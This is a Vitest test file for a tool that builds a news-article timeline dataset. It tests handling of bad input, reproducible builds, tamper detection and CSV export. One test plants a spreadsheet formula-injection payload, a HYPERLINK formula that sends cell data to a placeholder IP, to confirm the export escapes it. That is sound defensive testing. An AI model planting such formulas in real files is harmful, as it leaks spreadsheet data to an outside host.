/** The data step on folders made for each test: bad input, same bytes, whole or not at all. */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildData } from '../../src/build/data.ts';
import { verify } from '../../src/build/verify.ts';
import type { Report, Timeline } from '../../src/model/dataset.ts';
import { clean } from '../../src/pipeline/clean/clean.ts';
import { run } from '../../src/pipeline/run.ts';

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'synoptic data '));
  mkdirSync(path.join(folder, 'in'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const good =
  'Storm shuts wall\n\nBy Ada Holm\n\n2024-11-06\n\nThe harbour wall at Ness was closed on Tuesday after a storm, the council said.\n\nIn March 2019 the wall had been mended.';
const put = (name: string, content: string | Uint8Array) => {
  mkdirSync(path.dirname(path.join(folder, 'in', name)), { recursive: true });
  writeFileSync(path.join(folder, 'in', name), content);
};
const lines: string[] = [];
const build = (): Report => {
  lines.length = 0;
  return buildData(path.join(folder, 'in'), path.join(folder, 'out'), (line) => lines.push(line));
};
const timeline = (): Timeline => JSON.parse(readFileSync(path.join(folder, 'out/timeline.json'), 'utf8'));

describe('bad folders', () => {
  it('that are missing are named, with what to do', () => {
    expect(() => buildData(path.join(folder, 'nowhere'), path.join(folder, 'out'), () => {})).toThrow(
      /nowhere does not exist\. Name a folder of \.txt articles/,
    );
  });

  it('that are empty are named, with what to do', () => {
    expect(build).toThrow(/in is empty\. Put at least one article into it/);
  });

  it('that are files are named', () => {
    put('a.txt', good);
    expect(() => buildData(path.join(folder, 'in/a.txt'), path.join(folder, 'out'), () => {})).toThrow(/a\.txt is a file, not a folder/);
  });

  it('without a single article say why of each file', () => {
    put('a.txt', '');
    expect(build).toThrow(/No article in .* could be read/);
    expect(lines.join()).toMatch(/a\.txt is empty\. Put the article into it, or remove the file\./);
  });
});

describe('bad files', () => {
  it('never stop the others, and each is accounted for once', () => {
    put('good.txt', good);
    put('copy.txt', good.replaceAll('\n', '\r\n'));
    put('empty.txt', ' \n ');
    put('photo.txt', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 1, 2, 3]));
    put('zeros.txt', new Uint8Array(64));
    put('page.txt', '<!DOCTYPE html><html><p>The wall fell.</p></html>');
    put('stub.txt', 'Leave a Reply\n\nBack to top');
    put('notes.md', good);
    put('.hidden.txt', good);
    put('deep/er/UPPER.TXT', good.replace('Storm', 'Gale'));
    symlinkSync('/etc/hostname', path.join(folder, 'in/link.txt'));
    const report = build();
    expect(new Set(report.files.map((one) => one.file)).size).toBe(report.files.length);
    expect(report.files.map((one) => [one.file, one.status, one.code])).toEqual([
      ['.hidden.txt', 'skipped', 'leftover'],
      ['copy.txt', 'accepted', null],
      ['deep/er/UPPER.TXT', 'accepted', null],
      ['empty.txt', 'rejected', 'empty'],
      ['good.txt', 'duplicate', 'duplicate'],
      ['link.txt', 'skipped', 'not-regular-file'],
      ['notes.md', 'skipped', 'unsupported-format'],
      ['page.txt', 'rejected', 'looks-like-html'],
      ['photo.txt', 'rejected', 'binary'],
      ['stub.txt', 'rejected', 'no-article-text'],
      ['zeros.txt', 'rejected', 'binary'],
    ]);
    for (const one of report.files) if (one.status !== 'accepted') expect(one.message).toContain(one.file);
  });

  it('in an old encoding are read, and said to be', () => {
    put('old.txt', Buffer.from(good.replace('storm,', 'storm \x96 \x93the worst\x94,'), 'latin1'));
    const report = build();
    expect(report.files[0]?.warnings.join()).toMatch(/decoded-as-windows-1252/);
    const article = timeline().articles[0];
    expect(readFileSync(path.join(folder, 'out', article?.file ?? ''), 'utf8')).toContain('storm – “the worst”,');
  });

  it('whose name cannot be opened are named', () => {
    put('good.txt', good);
    writeFileSync(Buffer.concat([Buffer.from(`${path.join(folder, 'in')}/bad`), Buffer.from([0xff]), Buffer.from('.txt')]), good);
    expect(build().files.map((one) => [one.status, one.code])).toEqual([
      ['rejected', 'unreadable'],
      ['accepted', null],
    ]);
  });
});

describe('the dataset', () => {
  it('is the same bytes when built from nothing twice', () => {
    put('a.txt', good);
    put('b.txt', good.replaceAll('Ness', 'Oss'));
    build();
    const read = () =>
      readdirSync(path.join(folder, 'out'), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => [entry.name, readFileSync(path.join(entry.parentPath, entry.name), 'utf8')])
        .sort();
    const first = read();
    rmSync(path.join(folder, 'out'), { recursive: true });
    build();
    expect(read()).toEqual(first);
  });

  it('leaves alone what no build has written', () => {
    put('a.txt', good);
    build();
    writeFileSync(path.join(folder, 'out/texts/thesis.txt'), 'mine');
    mkdirSync(path.join(folder, 'out/events/mine'));
    build();
    expect(readFileSync(path.join(folder, 'out/texts/thesis.txt'), 'utf8')).toBe('mine');
    expect(readdirSync(path.join(folder, 'out/events'))).toContain('mine');
  });

  it('does not read its own output where that lies among the articles', () => {
    put('a.txt', good);
    const inside = () => buildData(path.join(folder, 'in'), path.join(folder, 'in/site'), () => {});
    inside();
    expect(inside().files.map((one) => one.file)).toEqual(['a.txt']);
  });

  it('is refused where it would be written over the articles', () => {
    put('a.txt', good);
    expect(() => buildData(path.join(folder, 'in'), path.join(folder, 'in'), () => {})).toThrow(/Name another folder with --out/);
  });

  it('is the same bytes when built twice, from other names and in another order', () => {
    put('a.txt', good);
    put('b.txt', good.replaceAll('Ness', 'Oss'));
    build();
    const read = () =>
      readdirSync(path.join(folder, 'out'), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile() && entry.name !== 'report.json')
        .map((entry) => [entry.name, readFileSync(path.join(entry.parentPath, entry.name), 'utf8')]);
    const first = read();
    rmSync(path.join(folder, 'in'), { recursive: true });
    put('z.txt', good);
    put('c.txt', good.replaceAll('Ness', 'Oss'));
    build();
    expect(read()).toEqual(first);
  });

  it('keeps the ids of events when an article joins them', () => {
    put('a.txt', good);
    build();
    const before = timeline().events.map((event) => event.id);
    put('b.txt', good.replace('Storm', 'Gale').replace('the council said', 'said the council'));
    build();
    const after = new Set(timeline().events.map((event) => event.id));
    for (const id of before) expect(after).toContain(id);
  });

  it('leaves no half-written file and no shard of an older build', () => {
    put('a.txt', good);
    build();
    put('a.txt', good.replace('Tuesday', 'Monday'));
    build();
    const named = new Set(
      [...timeline().events.map((one) => one.file), ...timeline().articles.map((one) => one.file), timeline().terms].map((file) =>
        path.basename(file),
      ),
    );
    const there = ['events', 'texts', 'terms'].flatMap((shelf) => readdirSync(path.join(folder, 'out', shelf)));
    expect(new Set(there)).toEqual(named);
    expect(readdirSync(path.join(folder, 'out')).sort()).toEqual([
      'events',
      'ids.json',
      'moved.json',
      'report.json',
      'schema.json',
      'terms',
      'texts',
      'timeline.json',
    ]);
  });

  it('is not written where its record of ids is damaged', () => {
    put('a.txt', good);
    mkdirSync(path.join(folder, 'out'));
    writeFileSync(path.join(folder, 'out/ids.json'), '{');
    expect(build).toThrow(/ids\.json is damaged.*restore it/);
  });

  it('is not written by two builds at a time, and a dead builder’s lock is swept', () => {
    put('a.txt', good);
    mkdirSync(path.join(folder, 'out'));
    writeFileSync(path.join(folder, 'out/.building'), String(process.ppid));
    expect(build).toThrow(/Another build \(process \d+\)/);
    for (const left of ['999999999', '', String(process.pid)]) {
      writeFileSync(path.join(folder, 'out/.building'), left);
      expect(build().files).toHaveLength(1);
    }
  });
});

describe('the proof', () => {
  const dataset = () =>
    run(
      [clean({ file: 'a.txt', text: good }), clean({ file: 'b.txt', text: good.replace('Storm', 'Gale').replace('after a storm', 'after a gale') })],
      { formatVersion: 1, events: [] },
    );
  const firstOf = <Value>(files: ReadonlyMap<string, Value>): Value => [...files.values()][0] as Value;

  it('holds for what the pipeline makes', () => {
    expect(() => verify(dataset())).not.toThrow();
  });

  it.each<[string, (broken: ReturnType<typeof dataset>) => void, RegExp]>([
    [
      'a title of the index claims other words',
      ({ timeline }) => Object.assign(timeline.events[0]?.title ?? {}, { words: 'nobody wrote this' }),
      /does not hold/,
    ],
    [
      'a passage claims other words',
      ({ events }) => Object.assign(firstOf(events).versions[0]?.passages[0] ?? {}, { words: 'nobody wrote this' }),
      /does not hold/,
    ],
    ['a span lies outside its text', ({ articles }) => Object.assign(firstOf(articles).parts[0] ?? {}, { end: 999_999 }), /does not hold/],
    [
      'an excerpt of the evidence is moved',
      ({ events }) => Object.assign(firstOf(events).when?.evidence[0]?.excerpts[0] ?? {}, { start: 1 }),
      /does not hold/,
    ],
    [
      'the index names a file that is not there',
      ({ timeline }) => Object.assign(timeline.events[0] ?? {}, { file: 'events/x.json' }),
      /is not there/,
    ],
    ['a silent article is unknown', ({ events }) => firstOf(events).silent.push('a000000000x'), /is not there/],
    ['a row has too few cells', ({ events }) => firstOf(events).statements[0]?.cells.pop(), /cells for/],
    ['a field is of another kind', ({ timeline }) => Object.assign(timeline.events[0] ?? {}, { weight: 2 }), /does not fit its schema/],
  ])('fails where %s', (_what, tamper, message) => {
    const broken = dataset();
    tamper(broken);
    expect(() => verify(broken)).toThrow(message);
  });
});

describe('tables for spreadsheets', () => {
  const csv = () => buildData(path.join(folder, 'in'), path.join(folder, 'out'), () => {}, { csv: true });
  const table = (name: string) => readFileSync(path.join(folder, 'out', name), 'utf8');

  it('are written when asked for: every article, and every telling of every event', () => {
    put('a.txt', good);
    csv();
    const { articles, events } = timeline();
    expect(table('articles.csv').split('\r\n')).toHaveLength(articles.length + 2);
    expect(table('articles.csv')).toContain(`${articles[0]?.id},Storm shuts wall,`);
    expect(table('events.csv').split('\r\n')).toHaveLength(events.flatMap(({ tellings }) => tellings).length + 2);
    for (const { id } of events) expect(table('events.csv')).toContain(`\r\n${id},`);
  });

  it('hold no cell that a spreadsheet would take for a formula', () => {
    put('a.txt', `=HYPERLINK("http://192.0.2.1/?"&A1,"Open")\n\n${good}`);
    csv();
    expect(table('articles.csv')).toContain(`"'=HYPERLINK(""http://192.0.2.1/?""&A1,""Open"")`);
    expect(table('articles.csv')).not.toMatch(/(?:^|,|\n)"?[=+@-]/);
  });

  it('are not written otherwise', () => {
    put('a.txt', good);
    build();
    expect(readdirSync(path.join(folder, 'out')).filter((name) => name.endsWith('.csv'))).toEqual([]);
  });
});
